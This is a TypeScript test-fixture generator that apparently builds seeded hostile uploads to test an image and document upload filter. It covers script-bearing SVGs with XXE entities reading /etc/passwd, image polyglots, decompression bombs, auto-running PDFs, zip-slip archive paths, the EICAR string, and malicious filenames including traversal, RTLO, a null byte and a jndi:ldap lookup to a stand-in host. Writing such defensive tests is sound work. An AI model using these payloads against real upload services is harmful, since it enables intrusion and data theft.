import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import type { Seeded } from '#platform/seeded.ts'
import { eicar, objectStream, pdf, zip } from '../../src/core/files/testing/documents.ts'
import { animatedGif, chunk, claimingSize, jpeg, png, withSegment } from '../../src/core/files/testing/pictures.ts'

/** `refused`: must not be taken in. `infected`: the scanner's verdict is bad. `either`: may be taken, if what is handed out then has nothing of `planted`. */
export type HostileFile = {
  what: string
  bytes: Buffer
  name: string
  type: string
  planted: string
  becomes: 'refused' | 'either' | 'taken' | 'infected'
}

type Maker = (chance: Seeded, planted: string) => Promise<Omit<HostileFile, 'name' | 'type' | 'planted'>>

const size = (chance: Seeded): [number, number] => [chance.int(16, 900), chance.int(16, 700)]
const noise = (chance: Seeded, length: number): Buffer => Buffer.from(Array.from({ length }, () => chance.int(0, 255)))

/** Something that a browser would run if it was shown as a page of the town. */
const script = (chance: Seeded, planted: string): string =>
  chance.pick([
    `<script>alert("${planted}")</script>`,
    `<img src=x onerror="alert('${planted}')">`,
    `<iframe srcdoc="&lt;script&gt;${planted}&lt;/script&gt;"></iframe>`,
    `<?php system("${planted}"); ?>`,
    `*/=1;eval("${planted}")//`,
    `<svg onload="fetch('//e.example/${planted}')"/>`,
  ])

const svg: Maker = async (chance, planted) => {
  const inside = chance.pick([
    `<script>${planted}</script>`,
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${planted}</script></body></foreignObject>`,
    `<a xlink:href="javascript:${planted}"><text>x</text></a>`,
    `<image href="file:///etc/passwd"/><text>${planted}</text>`,
    `<use href="data:image/svg+xml;base64,${Buffer.from(planted).toString('base64')}"/>`,
  ])
  const before = chance.pick([
    '',
    '\ufeff',
    '<?xml version="1.0"?>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '\n \t',
    '<!-- GIF89a -->',
  ])
  const text = `${before}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${planted}">${inside}</svg>`
  return { what: 'SVG with a script', bytes: chance.chance(0.2) ? gzipSync(text) : Buffer.from(text), becomes: 'refused' }
}

const page: Maker = async (chance, planted) => {
  const magic = chance.pick([
    '',
    'GIF89a',
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff\xe0',
    'RIFF\x20\x00\x00\x00WEBPVP8 ',
    'BM',
    '%PDF-1.4\n',
    'II*\0',
  ])
  const bytes = Buffer.concat([Buffer.from(magic, 'latin1'), Buffer.from(`<!doctype html><body>${script(chance, planted)}`)])
  return { what: `a page that begins with ${JSON.stringify(magic)}`, bytes, becomes: 'refused' }
}

const polyglot: Maker = async (chance, planted) => {
  const payload = Buffer.from(script(chance, planted))
  const ways: (() => Promise<[string, Buffer]>)[] = [
    async () => ['behind a JPEG', Buffer.concat([await jpeg(...size(chance)), payload])],
    async () => ['in a comment of a JPEG', withSegment(await jpeg(...size(chance)), 0xfe, payload)],
    async () => ['in a segment of a JPEG', withSegment(await jpeg(...size(chance)), chance.int(0xe2, 0xef), payload)],
    async () => ['behind a GIF', Buffer.concat([await animatedGif(chance.int(1, 6)), payload])],
    async () => ['behind a PNG', Buffer.concat([png({ width: chance.int(8, 300), height: chance.int(8, 300) }), payload])],
    async () => [
      'in a chunk of a PNG',
      png({
        width: 40,
        height: 40,
        more: [chunk(chance.pick(['tEXt', 'iTXt', 'eXIf', 'prVt']), Buffer.concat([Buffer.from('Comment\0'), payload]))],
      }),
    ],
    async () => [
      'in a packed chunk of a PNG',
      png({ width: 40, height: 40, more: [chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(payload)]))] }),
    ],
    async () => [
      'behind a WebP',
      Buffer.concat([
        await sharp(await jpeg(...size(chance)))
          .webp()
          .toBuffer(),
        payload,
      ]),
    ],
    async () => ['in an archive behind a JPEG', Buffer.concat([await jpeg(...size(chance)), zip(`${planted}.class`, payload)])],
    async () => [
      'in a PDF behind a JPEG',
      Buffer.concat([await jpeg(...size(chance)), pdf(`9 0 obj\n<< /S /JavaScript /JS (${planted}) >>\nendobj\n`)]),
    ],
  ]
  const [where, bytes] = await chance.pick(ways)()
  return { what: `a script ${where}`, bytes, becomes: 'either' }
}

const bomb: Maker = async (chance) => {
  const edge = chance.int(9_000, 60_000)
  const ways: (() => Promise<[string, Buffer, HostileFile['becomes']]>)[] = [
    async () => [`a PNG of ${edge} × ${edge} with few rows`, png({ width: edge, height: edge, rows: chance.int(1, 50) }), 'refused'],
    async () => [`a PNG of 9000 × ${edge} with all rows`, png({ width: 9_000, height: Math.min(edge, 30_000) }), 'refused'],
    async () => [`a JPEG that claims ${edge} × ${edge}`, claimingSize(await jpeg(), edge, edge), 'refused'],
    async () => [
      'a profile that unpacks to much',
      png({
        width: 8,
        height: 8,
        more: [chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(chance.int(10, 40) * 1_000_000))]))],
      }),
      'either',
    ],
    async () => [
      'a comment that unpacks to much',
      png({
        width: 8,
        height: 8,
        more: [chunk('zTXt', Buffer.concat([Buffer.from('C\0\0'), deflateSync(Buffer.alloc(chance.int(10, 40) * 1_000_000))]))],
      }),
      'either',
    ],
    async () => ['a GIF of many frames', await animatedGif(chance.int(100, 400)), 'either'],
    async () => ['an archive that unpacks to much', zip('0', deflateSync(Buffer.alloc(20_000_000))), 'refused'],
    async () => ['a PDF that unpacks to much', pdf(objectStream(Buffer.alloc(chance.int(70, 100) * 1_000_000))), 'refused'],
  ]
  const [what, bytes, becomes] = await chance.pick(ways)()
  return { what, bytes, becomes }
}

const spoken: Maker = async (chance, planted) => {
  const place = {
    GPSLatitudeRef: 'N',
    GPSLatitude: `${chance.int(47, 54)}/1 ${chance.int(0, 59)}/1 0/1`,
    GPSLongitudeRef: 'E',
    GPSLongitude: '11/1 4/1 0/1',
  }
  const exif = { IFD0: { ImageDescription: planted, Make: planted, Artist: planted }, IFD2: { UserComment: planted }, IFD3: place }
  const picture = sharp(await jpeg(...size(chance))).withExif(exif)
  const format = chance.pick(['jpeg', 'webp', 'png', 'tiff'] as const)
  const bytes = await picture.toFormat(format).toBuffer()
  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${planted}</x:xmpmeta>`)
  const iptc = Buffer.concat([Buffer.from('Photoshop 3.0\0'), Buffer.from(planted)])
  const more = format === 'jpeg' ? withSegment(withSegment(bytes, 0xe1, xmp), 0xed, iptc) : bytes
  return { what: `a ${format} that says where and by whom it was taken`, bytes: more, becomes: format === 'tiff' ? 'refused' : 'taken' }
}

const cut: Maker = async (chance) => {
  const format = chance.pick(['jpeg', 'png', 'gif', 'pdf'] as const)
  const whole =
    format === 'pdf'
      ? pdf()
      : format === 'gif'
        ? await animatedGif(4)
        : format === 'jpeg'
          ? await jpeg(600, 400)
          : await sharp(await jpeg(600, 400))
              .png()
              .toBuffer()
  const at = chance.int(1, Math.floor(whole.length * 0.7))
  return {
    what: `a ${format} cut off at ${at} of ${whole.length}`,
    bytes: whole.subarray(0, at),
    becomes: format === 'gif' ? 'either' : 'refused',
  }
}

const nothing: Maker = async (chance) => {
  const length = chance.pick([0, 0, 1, 3, 12, 400])
  return {
    what: `${length} bytes of nothing`,
    bytes: chance.chance(0.5) ? Buffer.alloc(length) : noise(chance, length),
    becomes: 'refused',
  }
}

const damaged: Maker = async (chance) => {
  const bytes = Buffer.from(await jpeg(...size(chance)))
  const hits = chance.int(1, 40)
  for (let hit = 0; hit < hits; hit += 1) bytes[chance.int(2, bytes.length - 1)] = chance.int(0, 255)
  return { what: `a JPEG with ${hits} bytes changed`, bytes, becomes: 'either' }
}

const acting: Maker = async (chance, planted) => {
  const object = chance.pick([
    `9 0 obj\n<< /S /JavaScript /JS (${planted}) >>\nendobj\n`,
    `9 0 obj\n<< /S /J#61va#53cript /JS (${planted}) >>\nendobj\n`,
    `9 0 obj\n<< /OpenAction << /S /Launch /F (${planted}) >> >>\nendobj\n`,
    `9 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\n${planted}\nendstream\nendobj\n`,
    `9 0 obj\n<< /XFA [(${planted}) 4 0 R] >>\nendobj\n`,
    objectStream(`9 0 << /S /JavaScript /JS (${planted}) >>`),
    objectStream('9 0 << /S /Launch >>', '/Type /Obj#53tm /Filter /FlateDecode'),
  ])
  return { what: 'a PDF that acts by itself', bytes: pdf(object), becomes: 'refused' }
}

const archive: Maker = async (chance, planted) => {
  const name = chance.pick(['../../etc/cron.d/x', 'word/vbaProject.bin', `${planted}.exe`, '/absolute', '..\\..\\x.dll'])
  const bytes = chance.pick([
    zip(name, Buffer.from(planted)),
    gzipSync(planted),
    Buffer.concat([Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), noise(chance, 200)]),
    Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), noise(chance, 200)]),
    Buffer.concat([Buffer.from('MZ'), noise(chance, 400)]),
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), noise(chance, 400)]),
  ])
  return { what: 'an archive or a program', bytes, becomes: 'refused' }
}

const named: Maker = async (chance) => ({ what: 'a good picture under a bad name', bytes: await jpeg(...size(chance)), becomes: 'taken' })

/** The test virus behind a picture: nothing but the scanner knows it. */
const infected: Maker = async (chance) => ({
  what: 'the test virus behind a picture',
  bytes: Buffer.concat([await jpeg(...size(chance)), Buffer.from(eicar)]),
  becomes: 'infected',
})

const makers: readonly Maker[] = [svg, page, polyglot, bomb, spoken, cut, nothing, damaged, acting, archive, named, infected]

const names = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/cron.d/x',
  'bild.jpg.php',
  'bild.php%00.jpg',
  'a"; filename="b.html',
  'rechnung\u202egpj.exe',
  '"><script>alert(1)</script>.jpg',
  '.htaccess',
  'con.jpg',
  ' ',
  `${'ä'.repeat(3000)}.jpg`,
  'foto.svg',
  'foto.html',
  '$%7Bjndi:ldap://e.example/a%7D.jpg',
]
const types = ['image/jpeg', 'image/png', 'image/svg+xml', 'text/html', 'application/pdf', 'application/octet-stream', 'image/webp', 'x/y']

/** Makes `count` files that mean harm, of every kind about as many. The same chance makes the same files. */
export async function hostileFiles(count: number, chance: Seeded): Promise<HostileFile[]> {
  const files: HostileFile[] = []
  for (let nth = 0; nth < count; nth += 1) {
    const planted = `Planted${chance.int(100_000_000, 999_999_999)}`
    const made = await makers[nth % makers.length]!(chance, planted)
    files.push({ ...made, planted, name: chance.chance(0.5) ? chance.pick(names) : 'foto.jpg', type: chance.pick(types) })
  }
  return files
}
